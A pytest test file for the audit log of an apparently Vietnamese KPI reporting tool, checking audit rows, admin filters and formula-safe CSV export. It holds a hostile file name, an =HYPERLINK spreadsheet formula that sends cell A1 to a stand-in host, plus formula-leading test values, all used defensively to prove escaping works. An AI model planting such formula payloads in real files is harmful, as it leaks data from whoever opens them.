"""The audit log: every kind of change leaves its row (with the file's sha256 where there is a
file), the admin's filters find them, and the CSV export carries no live formula."""

from __future__ import annotations

import datetime as dt

import pytest

from kpi.access.audit import ACTION_LABELS, audit_actions, audit_csv, audit_entries, neutralize_formula
from kpi.access.auth import add_user, remove_user, verify_password, visitor
from kpi.errors import FileRefused, PermissionDenied
from kpi.ingest import ingest
from kpi.plans.targets import change_target
from kpi.reporting.attainment_report import attainment_report
from kpi.storage.database import sha256_of
from kpi.submissions import restore_submission, withdraw_submission
from tests.support.ledger import REF, q1_version
from tests.support.safety import csv_formula_cells
from tests.support.samples import ACTOR, SAMPLE_FILES, sample_bytes
from tests.support.sheets import report_rows, xlsx

HOSTILE_NAME = '=HYPERLINK("http://example.invalid/?x="&A1,"Bấm vào đây").xlsx'


def _bad_file() -> bytes:
    return xlsx(
        report_rows(
            "BÁO CÁO QUÝ I NĂM 2024",
            ["STT", "Chỉ tiêu", "ĐVT", "Thực hiện quý I"],
            [[1, "Tổng thu ngân sách nhà nước", "Tỷ đồng", "một trăm"]],
        )
    )


def _rows(con, action):
    return con.execute(
        "SELECT actor, sha256, file_name, detail FROM audit_log WHERE action = ? ORDER BY rowid", [action]
    ).fetchall()


def test_every_change_leaves_its_audit_row(con, cfg):
    q1, correction = sample_bytes("q1"), q1_version(530.4, 530.4, REF.format(n=60, d="15/4/2024"))
    ingest(con, q1, SAMPLE_FILES["q1"], ACTOR, cfg=cfg)
    ingest(con, correction, "sua.xlsx", "cli:ketoan", cfg=cfg)
    assert [(a, s, f) for a, s, f, _d in _rows(con, "upload")] == [
        (ACTOR, sha256_of(q1), SAMPLE_FILES["q1"]),
        ("cli:ketoan", sha256_of(correction), "sua.xlsx"),
    ]
    (supersede,) = _rows(con, "supersede")
    assert supersede[1] == sha256_of(correction) and "#1 được thay bằng #2" in supersede[3]

    withdraw_submission(con, 2, ACTOR, reason="gửi nhầm")
    restore_submission(con, 2, ACTOR, reason="gửi đúng")
    assert [(s, d) for _a, s, _f, d in _rows(con, "withdraw")] == [(sha256_of(correction), "#2 gửi nhầm")]
    assert [(s, d) for _a, s, _f, d in _rows(con, "restore")] == [(sha256_of(correction), "#2 gửi đúng")]

    change_target(con, ACTOR, 2024, "CT02", "810", "Quyết định điều chỉnh số 12")
    ((actor, _s, _f, detail),) = _rows(con, "target_change")
    assert actor == ACTOR and detail.startswith("2024 CT02: 805 → 810") and "điều chỉnh số 12" in detail
    assert con.execute("SELECT old_value, new_value, reason FROM target_history").fetchall() == [
        ("805", "810", "Quyết định điều chỉnh số 12")
    ]
    assert float(attainment_report(con, 2024, 1).table.set_index("key").loc["CT02", "target"]) == 810

    add_user(con, ACTOR, "quantri", "admin", "mat-khau-quan-tri")  # set-up mode: the first user is an admin
    add_user(con, "quantri", "vanthu", "editor", "mat-khau-van-thu")
    remove_user(con, "quantri", "vanthu")
    assert [d for _a, _s, _f, d in _rows(con, "user_add")] == ["quantri (admin)", "vanthu (editor)"]
    assert [d for _a, _s, _f, d in _rows(con, "user_remove")] == ["vanthu"]

    assert not verify_password(con, "quantri", "doan-mo")
    assert [a for a, _s, _f, _d in _rows(con, "signin_failed")] == ["quantri"]
    with pytest.raises(PermissionDenied):
        withdraw_submission(con, 1, "khách")
    assert [a for a, _s, _f, _d in _rows(con, "denied")] == ["khách"]
    assert set(audit_actions(con)) <= set(ACTION_LABELS)


def test_a_refused_file_is_logged_with_its_sha256_and_nothing_else_kept(con, cfg):
    bad = _bad_file()
    with pytest.raises(FileRefused):
        ingest(con, bad, HOSTILE_NAME, ACTOR, cfg=cfg)
    ((actor, sha, name, detail),) = _rows(con, "refuse")
    assert (actor, sha, name) == (ACTOR, sha256_of(bad), HOSTILE_NAME)
    assert "D8" in detail and "«một trăm» không phải là số" in detail
    counts = con.execute(
        "SELECT (SELECT count(*) FROM submissions), (SELECT count(*) FROM observations), "
        "(SELECT count(*) FROM import_log), (SELECT count(*) FROM issues)"
    ).fetchall()
    assert counts == [(0, 0, 0, 0)]
    assert not cfg.raw_dir.exists() or not any(cfg.raw_dir.rglob("*.bin"))


def test_filters_find_what_the_admin_looks_for(con, cfg):
    ingest(con, sample_bytes("q1"), SAMPLE_FILES["q1"], ACTOR, cfg=cfg)
    with pytest.raises(FileRefused):
        ingest(con, _bad_file(), "xau_100%.xlsx", "cli:khac", cfg=cfg)
    everything = audit_entries(con)
    assert list(everything["action"]) == ["refuse", "upload"]  # newest first
    assert list(audit_entries(con, actions=["upload"])["file_name"]) == [SAMPLE_FILES["q1"]]
    assert list(audit_entries(con, actor="cli:khac")["action"]) == ["refuse"]
    assert list(audit_entries(con, text="100%")["file_name"]) == ["xau_100%.xlsx"]  # % is literal
    assert audit_entries(con, text="t_").empty  # and so is _ (as a wildcard it would match "t1")
    assert list(audit_entries(con, text=sha256_of(sample_bytes("q1"))[:12])["action"]) == ["upload"]
    today = dt.date.today()
    assert len(audit_entries(con, since=today, until=today)) == 2
    assert audit_entries(con, until=today - dt.timedelta(days=1)).empty


def test_the_csv_export_carries_no_formula(con, cfg):
    with pytest.raises(FileRefused):
        ingest(con, _bad_file(), HOSTILE_NAME, "+cli:x", cfg=cfg)
    data = audit_csv(audit_entries(con))
    assert data.startswith("\ufeff".encode())  # Excel opens it as UTF-8 (Vietnamese intact)
    text = data.decode("utf-8-sig")
    assert "Thời điểm,Người thực hiện,Hành động,Diễn giải,Tên tệp,sha256,Chi tiết" in text
    assert "'=HYPERLINK(" in text and "'+cli:x" in text and "từ chối tệp" in text
    assert csv_formula_cells(data) == []


@pytest.mark.parametrize(
    ("value", "shown"),
    [
        ("=1+1", "'=1+1"),
        ("+84 912", "'+84 912"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("  =1", "'  =1"),
        ("Bình thường", "Bình thường"),
        ("a=b", "a=b"),
        (12.5, 12.5),
    ],
)
def test_neutralize_formula(value, shown):
    assert neutralize_formula(value) == shown


def test_the_csv_speaks_vietnamese_and_carries_the_reasons_typed(con, cfg):
    import csv
    import io

    from kpi.plans.source import confirm_plan, plan_rows

    ingest(con, sample_bytes("q1"), SAMPLE_FILES["q1"], ACTOR, cfg=cfg)
    ingest(con, sample_bytes("registrations"), SAMPLE_FILES["registrations"], ACTOR, cfg=cfg)
    withdraw_submission(con, 2, ACTOR, reason="gửi nhầm danh sách")
    rows = plan_rows(con, 2024)
    rows[1]["target"] = "850"
    confirm_plan(con, 2024, rows, ACTOR, reason="Nghị quyết HĐND điều chỉnh dự toán", action="edit")
    confirm_plan(con, 2024, plan_rows(con, 2024), ACTOR, action="edit")  # no reason typed
    change_target(con, ACTOR, 2024, "CT01", "3400", "Quyết định số 12")
    with pytest.raises(PermissionDenied):  # a visitor over the network (no admin yet: set-up mode)
        withdraw_submission(con, 1, visitor(None))
    add_user(con, ACTOR, "quantri", "admin", "mat-khau-quan-tri")  # set-up mode: the first user is an admin
    add_user(con, "quantri", "vanthu", "editor", "mat-khau-van-thu")

    text = audit_csv(audit_entries(con)).decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(text)))
    by_action = {}
    for r in rows:
        by_action.setdefault(r["Hành động"], []).append(r)
    # Every action in words (no "upload", "refuse", "plan_edit" …).
    assert set(by_action) == {
        "tải lên",
        "rút báo cáo",
        "sửa kế hoạch",
        "sửa chỉ tiêu",
        "thêm người dùng",
        "bị từ chối quyền",
    }
    uploads = [r["Chi tiết"] for r in reversed(by_action["tải lên"])]
    assert uploads == [
        "#1 báo cáo chỉ tiêu Quý I/2024 → đang dùng",
        "#2 danh sách đăng ký thi đua năm 2024 → đang dùng",
    ]
    assert [r["Diễn giải"] for r in by_action["tải lên"]] == ["", ""]
    # The reason typed for a plan change, a target change, a withdrawal.
    assert [r["Diễn giải"] for r in by_action["sửa kế hoạch"]] == ["", "Nghị quyết HĐND điều chỉnh dự toán"]
    assert [r["Diễn giải"] for r in by_action["sửa chỉ tiêu"]] == ["Quyết định số 12"]
    assert [r["Diễn giải"] for r in by_action["rút báo cáo"]] == ["gửi nhầm danh sách"]
    assert [r["Chi tiết"] for r in by_action["thêm người dùng"]] == ["vanthu (cập nhật số liệu)", "quantri (quản trị)"]
    assert [r["Chi tiết"] for r in by_action["bị từ chối quyền"]] == ["rút báo cáo (vai trò: xem)"]
    for english in ("upload", "registrations", "active", "plan_edit", "editor", "withdraw"):
        assert english not in text, english


def test_an_action_without_words_and_a_free_detail_pass_unchanged():
    from kpi.access.audit import detail_words

    assert detail_words("upload", "#3 một dạng khác") == "#3 một dạng khác"
    assert detail_words("supersede", "#1 được thay bằng #2") == "#1 được thay bằng #2"
    assert detail_words("user_add", "ai đó (không rõ)") == "ai đó (không rõ)"


def test_actors_are_named_as_people_read_them():
    from kpi.access.audit import actor_words

    assert actor_words("system") == "hệ thống"  # first start's plan, recovery checks: never "system"
    assert actor_words("cli:lan") == "lan (dòng lệnh)"
    assert actor_words("khách") == "người chưa đăng nhập"  # set-up mode's writer read as a guest (black-box)
    assert actor_words("nguyen.van.a") == "nguyen.van.a"


def test_the_screens_log_writes_a_backups_folder_short_and_the_csv_keeps_it(con, cfg, tmp_path):
    """A path has no space to wrap at: in the admin page's grid it was cut («/tmp/pytest-of-root/
    …/b» at 1920 px). On screen «…/» stands for its folders, the file's name whole; the CSV keeps
    the path, and a document's «15/4/2024» or «60/BC-TCKH» is no path."""
    from kpi.access.audit import audit_table
    from kpi.backup import backup_to_file

    folder = tmp_path / "mot-thu-muc-rat-dai-cua-van-phong" / "sao-luu-hang-thang"
    folder.mkdir(parents=True)
    made = backup_to_file(con, folder / "kpi-truoc-hop.duckdb", ACTOR)
    log = audit_entries(con, actions=["backup"])
    [screen] = [d for d in audit_table(log, screen=True)["Chi tiết"] if "kpi-truoc-hop.duckdb" in d]
    assert "…/kpi-truoc-hop.duckdb" in screen and str(folder) not in screen
    assert str(made.path) in audit_csv(log).decode("utf-8-sig")
    row = log.iloc[[0]].assign(action="upload", detail="Kèm theo 60/BC-TCKH ngày 15/4/2024")
    assert audit_table(row, screen=True)["Chi tiết"].iloc[0] == audit_table(row)["Chi tiết"].iloc[0]
    # a refusal's paragraph: three lines of the grid, cut between words; the CSV keeps it whole
    reason = "Phần «xl/sharedStrings.xml» của tệp chứa một chuỗi văn bản rất dài " * 4
    long = log.iloc[[0]].assign(action="upload", detail=reason)
    shown = audit_table(long, screen=True)["Chi tiết"].iloc[0]
    assert len(shown) <= 72 and shown.endswith("…") and reason.startswith(shown[:-1].rstrip())
    assert reason.strip() in audit_csv(long).decode("utf-8-sig")
